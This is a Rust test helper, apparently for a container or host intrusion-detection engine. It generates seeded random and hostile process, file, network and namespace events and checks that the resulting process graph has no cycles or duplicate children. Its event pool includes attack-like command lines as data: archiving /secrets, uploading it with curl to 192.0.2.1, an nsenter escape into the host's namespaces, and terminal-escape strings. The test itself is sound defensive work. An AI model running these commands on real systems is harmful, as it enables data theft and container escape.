@@ -1,0 +1,222 @@
+//! Histories that no kernel would tell: a generator of random and hostile events, the same for the same seed; and what
+//! must hold of a graph all the same.
+#![allow(dead_code, clippy::unwrap_used, unreachable_pub)]
+
+use std::collections::HashSet;
+use std::net::SocketAddr;
+use std::time::Duration;
+
+use lanner_core::event::*;
+use lanner_core::graph::Graph;
+
+const PROGRAMS: &[(&str, &str)] = &[
+    ("/bin/sh", "sh"),
+    ("/bin/bash", "bash -s"),
+    ("/usr/bin/python3", "python3 -"),
+    ("/usr/bin/nsenter", "nsenter -t 1 -m sh"),
+    ("/bin/tar", "tar czf /x.tgz /secrets"),
+    ("/usr/bin/curl", "curl -T /x.tgz http://192.0.2.1"),
+    ("/usr/bin/kubelet", "kubelet"),
+    ("/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2"),
+    ("/usr/bin/ctr", "ctr run"),
+    ("/usr/sbin/runc", "runc init"),
+    ("/bin/httpd", "httpd"),
+    ("memfd:x", ""),
+    ("", ""),
+    ("/\u{1b}[2J\n", "\u{202e} \u{7}"),
+];
+const FILES: &[&str] = &[
+    "/etc/kubernetes/manifests/x.yaml",
+    "/host/etc/kubernetes/manifests/y.json",
+    "/tmp/x.tgz",
+    "/bin/sh",
+    "",
+    "/a/../..//b",
+    "/config.json",
+];
+const GROUPS: &[&str] = &[
+    "/kubepods/besteffort/podfedcba98-7654-3210-fedc-ba9876543210/a",
+    "/kubepods/besteffort/pod0123456789abcdef0123456789abcdef/b",
+    "/kubepods.slice/kubepods-besteffort-pod.slice",
+    "/pod",
+    "",
+    "/\u{0}\u{ff}",
+];
+
+/// Marsaglia's xorshift64*: small, and the same everywhere.
+pub struct Random(u64);
+
+impl Random {
+    pub fn new(seed: u64) -> Random {
+        Random(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
+    }
+
+    pub fn next(&mut self) -> u64 {
+        self.0 ^= self.0 >> 12;
+        self.0 ^= self.0 << 25;
+        self.0 ^= self.0 >> 27;
+        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 11
+    }
+
+    pub fn below(&mut self, n: u64) -> u64 {
+        self.next() % n
+    }
+
+    pub fn one_in(&mut self, n: u64) -> bool {
+        self.below(n) == 0
+    }
+
+    pub fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
+        &from[usize::try_from(self.below(from.len() as u64)).unwrap()]
+    }
+}
+
+/// A history of `length` events. All of it comes from small pools, so that everything meets everything else: pids are used
+/// again, parents are absent, ended, or descendants, and what happens is seldom in order.
+pub fn history(seed: u64, length: u64) -> Vec<Event> {
+    let mut random = Random::new(seed);
+    // Few processes make cycles and joins likely, many make chains deep.
+    let pool = *random.pick(&[5, 20, 120]);
+    let mut teller = Teller { random, pool, now: 1_000_000_000, seq: 0 };
+    (0..length).map(|_| teller.event()).collect()
+}
+
+struct Teller {
+    random: Random,
+    pool: u64,
+    now: u64,
+    seq: u64,
+}
+
+impl Teller {
+    fn event(&mut self) -> Event {
+        let step = self.random.below(3_000_000_000);
+        match self.random.below(40) {
+            0 => self.now = self.now.saturating_sub(step * 3),
+            1 => {}
+            2 => return self.with(u64::MAX),
+            _ => self.now += *self.random.pick(&[0, 1_000, 1_000_000, 3_000_000_000, step]),
+        }
+        self.with(self.now)
+    }
+
+    fn with(&mut self, time: u64) -> Event {
+        // Losses are gaps.
+        self.seq += if self.random.one_in(50) { 1 + self.random.below(9) } else { 1 };
+        let process = self.key();
+        let origin = if self.random.one_in(15) { Origin::Backfill } else { Origin::Live };
+        let header = Header { seq: self.seq, time: BootTime(time), cpu: 0, process, tid: process.pid, origin };
+        Event { header, payload: self.payload() }
+    }
+
+    fn payload(&mut self) -> Payload {
+        match self.random.below(24) {
+            0..=4 => Payload::Exec(Box::new(self.exec())),
+            5 => Payload::Alive(Box::new(self.exec())),
+            6..=8 => {
+                let fork = Fork { child: self.key(), task: self.task() };
+                Payload::Fork(Box::new(fork))
+            }
+            9..=11 => Payload::Exit(Exit { code: 1, signal: 0 }),
+            12..=15 => Payload::Open(Box::new(self.open())),
+            16..=17 => {
+                let attempt = *self.random.pick(&[Attempt::Started, Attempt::Established, Attempt::Failed(111)]);
+                Payload::Connect(Connect { flow: self.flow(), attempt })
+            }
+            18 => Payload::Accept(Accept { flow: self.flow() }),
+            19 => Payload::Listen(Listen { local: self.address(), netns: 1 }),
+            20 => {
+                let [sent, received] = [0; 2].map(|_| *self.random.pick(&[0, 70_000, u64::MAX]));
+                let outgoing = *self.random.pick(&[Some(true), Some(false), None]);
+                Payload::Close(Close { flow: self.flow(), outgoing, sent, received, lasted: Duration::MAX })
+            }
+            21..=22 => {
+                let how = *self.random.pick(&[NsChangeHow::Setns, NsChangeHow::Unshare]);
+                Payload::Namespace(NamespaceChange { how, now: self.namespaces(), before: self.namespaces() })
+            }
+            _ => Payload::MemFd(MemFd { file: self.file(), fd: -1 }),
+        }
+    }
+
+    fn key(&mut self) -> ProcessKey {
+        if self.random.one_in(40) {
+            return ProcessKey::UNKNOWN;
+        }
+        let pid = u32::try_from(self.random.below(self.pool)).unwrap();
+        // Three lives for each pid.
+        ProcessKey::new(pid, 500_000_000 * self.random.below(3))
+    }
+
+    fn task(&mut self) -> Task {
+        let parent = (!self.random.one_in(8)).then(|| self.key());
+        let group = self.random.below(GROUPS.len() as u64 * 2);
+        let group = usize::try_from(group).ok().and_then(|i| GROUPS.get(i)).copied();
+        let container = group.map(|_| ContainerId(Text::from(*self.random.pick(&["aaaa", "bbbb", "cccc", ""]))));
+        Task {
+            parent,
+            comm: Text::from(*self.random.pick(&["sh", "kthreadd", "systemd", ""])),
+            ns_pid: u32::try_from(self.random.below(4)).unwrap(),
+            tty: self.random.one_in(3).then(|| Text::from("pts0")),
+            namespaces: self.namespaces(),
+            cgroup: Text::from(group.unwrap_or_default()),
+            container,
+            ..Task::default()
+        }
+    }
+
+    fn namespaces(&mut self) -> Namespaces {
+        let mnt = *self.random.pick(&[0, 1, 1, 2, 3]);
+        Namespaces { mnt, pid: mnt, net: 1, uts: 1, ipc: 1, cgroup: 1, user: u32::MAX }
+    }
+
+    fn exec(&mut self) -> Exec {
+        let (exe, args) = *self.random.pick(PROGRAMS);
+        let exe = File::new(exe, self.random.below(2), self.random.below(30));
+        let kinds = [StdioKind::Pipe, StdioKind::Pipe, StdioKind::Terminal, StdioKind::Socket, StdioKind::Closed];
+        let stdio = [(); 3].map(|()| Stdio { kind: *self.random.pick(&kinds), ino: self.random.below(6), peer: None });
+        let args = Args { list: args.split(' ').map(Text::from).collect(), truncated: self.random.one_in(9) };
+        Exec { task: self.task(), image: Image { exe, script: None, args, cwd: Text::from("/"), stdio } }
+    }
+
+    fn file(&mut self) -> File {
+        let (path, ino) = (*self.random.pick(FILES), self.random.below(30));
+        File { deleted: self.random.one_in(9), ..File::new(path, self.random.below(2), ino) }
+    }
+
+    fn open(&mut self) -> Open {
+        let access = *self.random.pick(&[(true, false), (false, true), (true, true), (false, false)]);
+        let access = Access { read: access.0, write: access.1 };
+        let [created, written_before, directory] = [3, 2, 20].map(|n| self.random.one_in(n));
+        Open { file: self.file(), fd: 3, access, created, written_before, directory }
+    }
+
+    fn address(&mut self) -> SocketAddr {
+        let (host, port) = (self.random.below(3), *self.random.pick(&[0, 80]));
+        SocketAddr::from(([192, 0, 2, u8::try_from(host).unwrap()], port))
+    }
+
+    fn flow(&mut self) -> Flow {
+        let id = FlowId(self.random.below(9));
+        Flow { id, local: self.address(), remote: self.address(), netns: 1 }
+    }
+}
+
+/// What holds of every graph; `seed` is said when it does not.
+pub fn check_graph(graph: &Graph, seed: u64) {
+    assert_eq!(graph.living(), graph.processes().filter(|p| p.is_alive()).count(), "seed {seed}");
+    let mut listed = HashSet::new();
+    for process in graph.processes() {
+        let mut above = HashSet::new();
+        let mut next = Some(process.key);
+        while let Some(key) = next {
+            assert!(above.insert(key), "seed {seed}: {key} is its own ancestor");
+            next = graph.process(key).and_then(|p| p.parent);
+        }
+        for child in &process.children {
+            assert!(listed.insert(*child), "seed {seed}: {child} is listed twice");
+            let parent = graph.process(*child).map(|p| p.parent);
+            assert_eq!(parent, Some(Some(process.key)), "seed {seed}: {child} is no child of {}", process.key);
+        }
+    }
+    assert!(graph.process(ProcessKey::UNKNOWN).is_none(), "seed {seed}: nobody in particular is no process");
+}
